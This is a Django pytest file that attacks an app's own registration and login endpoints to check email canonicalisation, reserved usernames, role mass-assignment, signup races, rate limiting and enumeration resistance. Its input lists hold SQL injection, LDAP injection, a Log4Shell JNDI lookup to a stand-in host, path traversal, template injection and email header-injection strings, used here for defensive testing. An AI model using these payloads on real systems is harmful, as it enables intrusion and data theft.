"""Group B: many spellings of one name, stolen roles, races for a name, guessing and spying at the door."""

from __future__ import annotations

import json
from collections import Counter
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.users import services as users
from accounts.users.models import User
from config.roles import Status
from config.testing.cast import PASSWORD
from config.testing.client import Api, codes
from config.testing.crowd import at_once

pytestmark = [pytest.mark.django_db, pytest.mark.xdist_group("attacks-b")]

NEWCOMER = {"username": "ana", "email": "a@x.test", "password": PASSWORD}


def register(api: Any, **changes: Any) -> Any:
    return api.post("/auth/register", NEWCOMER | changes)


def login(api: Any, name: str, password: str = "not the password") -> Any:
    return api.post("/auth/login", {"username": name, "password": password})


@pytest.mark.parametrize("again", ["A@x.test", "a@X.TEST", "A@X.Test", "a@ｘ.test", "a@x。test"])
def test_b02_an_address_in_another_spelling_is_the_same_address(api: Any, again: str) -> None:
    assert register(api).status_code == 201
    refused = register(api, username="ben", email=again)
    assert refused.status_code == 400
    assert codes(refused) == {"email": "taken"}
    assert User.objects.count() == 1


def test_b02_an_address_with_a_tag_and_a_domain_in_other_letters_are_each_one_account(api: Any) -> None:
    assert register(api).status_code == 201
    assert register(api, username="ben", email="a+tag@x.test").status_code == 201
    assert register(api, username="carl", email="a@bücher.test").status_code == 201
    for spelled in ("a@xn--bcher-kva.test", "a@BÜCHER.test", "A@XN--BCHER-KVA.TEST"):
        assert codes(register(api, username="dora", email=spelled)) == {"email": "taken"}


MALFORMED = [
    "а@x.test", "a@x.test\n", "a@x.test\r\nBcc: b@x.test", "a\t@x.test", '"a b"@x.test', '"a"@x.test', "a@[127.0.0.1]",
    "a@[IPv6:::1]", "a@127.0.0.1", "=?utf-8?q?a=40x.test?=@x.test", "=?x?q?collab=40evil.test=3e=00?=@x.test", " a@x.test",
    "a@x.test ", "a@x.test,b@y.test", "a@x.test;b@y.test", "<a@x.test>", "Ana <a@x.test>", "a(c)@x.test", "a@x.test(c)",
    "a..b@x.test", ".a@x.test", "a.@x.test", "a@x..test", "a@.test", "a@x.test.", "a@@x.test", "a@b@x.test", "@x.test",
    "a@", "a", "a@x", "a@localhost", "a@-x.test", "a@x_y.test", "a\u200b@x.test", "a\u202e@x.test", "a\x7f@x.test",
    "ａ@x.test", "\u212a@x.test", "a＠x.test", "a%00@x.test\x00", "a@x.te\\st", "a:b@x.test", "a" * 65 + "@x.test",
    "a@" + "x" * 64 + ".test", "a" * 249 + "@x.test", "a@" + ".".join(["x" * 60] * 5) + ".test",
]  # fmt: skip


@pytest.mark.parametrize("email", MALFORMED)
def test_b02_an_address_that_mail_software_may_read_in_two_ways_is_a_400(api: Any, email: str) -> None:
    refused = register(api, email=email)
    assert refused.status_code == 400, refused.content
    assert User.objects.count() == 0


NAMES = [
    "admin", "ADMIN", "admin ", " admin", "Admin", "аdmin", "admın", "adm\u0131n", "ａdmin", "ⓐdmin", "admin\n", "admin\u200b",
    "ad\u00admin", "\u202enimda", "admin.", "-admin-", "_admin", "a\u0301dmin", "me", "ME", "api", "..", "...", "%2e%2e",
    "%61dmin", "null", "NULL", "undefined", "true", "root", "support", "moderator", "sigma", "sign.in", "no_reply", "self",
    "profile", "settings", "followers", "search", "favorites", "blocked", "export", "a", "ab", "a" * 31, "a" * 151, "a" * 5_000,
    "", " ", "a b", "a/b", "../a", "a\\b", "a@b", "<b>", "a'b", 'a"b', "a;b", "a\x00b", "a\ud800b", "١٢٣", "🦊🦊🦊", "a\tb",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_b03_a_reserved_or_confusable_name_is_a_400_on_every_way_to_a_name(api: Any, name: str, owner: Any) -> None:
    """`\\ud800` is written as an escape: no encoder would send it, and an attacker is no encoder."""
    for path, person, wanted in (
        ("/auth/register", api, NEWCOMER | {"username": name}),
        ("/users/profile/username", api.as_(owner), {"username": name}),
    ):
        refused = person.post(path, json.dumps(wanted))
        assert refused.status_code == 400, (path, refused.content)
    assert list(User.objects.values_list("username", flat=True)) == ["owner"]


STOLEN = {
    "role": "admin", "is_staff": True, "is_superuser": True, "email_verified": True, "email_verified_at": "2026-01-01T00:00:00Z",
    "status": "active", "is_claimed": True, "token_version": 99, "id": "0193a5b0-7c1e-7a3b-9d2e-4f5a6b7c8d9e", "user": {"role": "admin"},
    "profile": {"followers_count": 9}, "followers_count": 9, "created_at": "2000-01-01T00:00:00Z", "groups": [1], "password2": "x",
}  # fmt: skip


@pytest.mark.parametrize("field", STOLEN)
def test_b04_nobody_gives_themselves_a_role_or_a_proof(api: Any, field: str) -> None:
    assert codes(register(api, **{field: STOLEN[field]})) == {field: "unknown_field"}
    assert User.objects.count() == 0
    made = register(api).json()["user"]
    assert (made["role"], made["status"], made["email_verified"], made["followers_count"]) == (
        "member",
        "active",
        False,
        0,
    )
    kept = User.objects.get()
    assert (kept.is_staff, kept.is_superuser, kept.email_verified_at) == (False, False, None)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("shared", ["username", "email", "both"])
def test_b05_of_fifty_at_once_who_want_one_name_exactly_one_gets_it(shared: str) -> None:
    def ask(number: int) -> int:
        spelled = str.upper if number % 2 else str.lower
        username = spelled("ana") if shared != "email" else f"ana{number}"
        email = spelled("a@x.test") if shared != "username" else f"a{number}@x.test"
        return int(register(Api(), username=username, email=email).status_code)

    statuses = Counter(at_once(ask, 50))
    assert statuses[201] == 1
    assert statuses[400] + statuses[409] == 49
    assert User.objects.count() == 1


@pytest.mark.parametrize("limited", [False, True])
def test_b07_the_sixth_wrong_password_waits_wherever_it_comes_from(
    at: Any, owner: Any, settings: Any, limited: bool
) -> None:
    settings.THROTTLES = limited
    answers = [login(at(f"198.51.100.{number}"), "owner") for number in range(20)]
    assert [answer.status_code for answer in answers] == [401] * 5 + [429] * 15
    assert all(1 <= int(answer["Retry-After"]) <= 900 for answer in answers[5:])
    assert login(at("198.51.100.99"), "owner", PASSWORD).status_code == 429


def test_b07_a_name_in_other_spellings_is_no_fresh_name(at: Any, owner: Any) -> None:
    spelled = ["owner", "OWNER", "Owner", " owner", "owner ", "oWnEr"] * 3
    statuses = [login(at(f"198.51.100.{number}"), name).status_code for number, name in enumerate(spelled)]
    assert statuses == [401] * 5 + [429] * 13
    mails = ["owner@example.com", "OWNER@EXAMPLE.COM", "Owner@Example.Com"] * 6
    statuses = [login(at(f"198.51.100.{number}"), name).status_code for number, name in enumerate(mails)]
    assert statuses == [401] * 5 + [429] * 13


@pytest.mark.parametrize("limited", [False, True])
def test_b07_the_right_password_from_a_known_device_still_works(
    at: Any, owner: Any, settings: Any, limited: bool
) -> None:
    settings.THROTTLES = limited
    home = at("203.0.113.9")
    assert login(home, "owner", PASSWORD).status_code == 200
    for number in range(20):
        login(at(f"198.51.100.{number}"), "owner")
    assert login(at("198.51.100.99"), "owner", PASSWORD).status_code == 429
    assert login(home, "owner", PASSWORD).status_code == 200


def test_b07_one_password_for_a_hundred_accounts_stops_at_the_thirtieth(at: Any, db: None, limits_on: None) -> None:
    spray = at("198.51.100.7")
    answers = [
        spray.post(
            "/auth/login", {"username": f"person{n}", "password": "summer 2026"}, X_Forwarded_For=f"203.0.113.{n}"
        )
        for n in range(100)
    ]
    assert [answer.status_code for answer in answers] == [401] * 30 + [429] * 70
    assert all(1 <= int(answer["Retry-After"]) <= 900 for answer in answers[30:])
    assert login(at("198.51.100.8"), "person0").status_code == 401


def told(answer: Any) -> tuple[int, dict[str, Any], list[str]]:
    """Everything of an answer that can tell one account from another."""
    body = answer.json()
    body.pop("request_id")
    headers = sorted(name for name in answer.headers if name not in {"X-Request-ID", "Retry-After"})
    return answer.status_code, body, headers


def test_b08_whatever_is_wrong_the_answer_and_the_work_are_the_same(
    at: Any, person: Any, hashings: list[str], db: None
) -> None:
    person("known")
    person("unproven", verified=False)
    for status in (Status.MUTED, Status.SUSPENDED, Status.BANNED, Status.DEACTIVATED):
        person(f"is-{status}", status=status)
    users.create_user(username="imported", email="imported@example.com", password=None, is_claimed=False)
    login(at("203.0.113.1"), "warm-up")
    names = ["nobody", "known", "unproven", "is-muted", "is-suspended", "is-banned", "is-deactivated", "imported"]
    seen = {}
    for number, name in enumerate([*names, *(f"{name}@example.com" for name in names)]):
        hashings.clear()
        with CaptureQueriesContext(connection) as queries:
            answer = login(at(f"198.51.100.{number}"), name)
        verbs = [query["sql"].split()[0] for query in queries.captured_queries]
        seen[name] = (told(answer), len(hashings), verbs)
    assert seen["nobody"][0][0] == 401
    assert seen["nobody"][1] == 1
    assert {name: what for name, what in seen.items() if what != seen["nobody"]} == {}


def test_b08_a_locked_name_looks_the_same_whether_it_is_anyones(at: Any, owner: Any, hashings: list[str]) -> None:
    seen = []
    for name in ("owner", "nobody-at-all", "owner@example.com", "nobody@example.com"):
        for number in range(5):
            assert login(at(f"198.51.100.{number}"), name).status_code == 401
        hashings.clear()
        answer = login(at("198.51.100.9"), name, PASSWORD)
        status, body, headers = told(answer)
        seen.append((status, body["code"], headers, len(hashings)))
    assert seen == [(429, "sign_in_locked", seen[0][2], 0)] * 4


HOSTILE = {
    400: ["own\x00er", "\x00", "o" * 255, "", "own\x1ber", "owner\u202e", "\ud800"],
    401: [
        "' OR '1'='1", "owner'--", "owner' /*", '") OR 1=1--', "'; SELECT pg_sleep(9)--", "\\", "*", "*)(uid=*))(|(uid=*",
        "owner)(&)", "%", "_____", "o%", "${jndi:ldap://x.test/a}", "{{7*7}}", "../../etc/passwd", "ｏｗｎｅｒ", "оwner",
        "owner@", "@example.com", "a@b@example.com", "$.*", "null", "\U0001f98a", "o" * 254, "ıowner",
    ],
}  # fmt: skip


@pytest.mark.parametrize(("name", "status"), [(name, status) for status, names in HOSTILE.items() for name in names])
def test_b11_a_hostile_name_is_nobodys_name(api: Any, owner: Any, name: str, status: int) -> None:
    answer = api.post("/auth/login", json.dumps({"username": name, "password": PASSWORD}))
    assert answer.status_code == status, answer.content


def test_b11_a_giant_password_is_refused_before_any_work(api: Any, owner: Any, hashings: list[str]) -> None:
    for size, status in ((257, 400), (4_096, 400), (1_000_000, 400), (1_048_577, 413), (10_000_000, 413)):
        assert login(api, "owner", "x" * size).status_code == status
        assert login(api, "x" * size, PASSWORD).status_code == status
    assert hashings == []
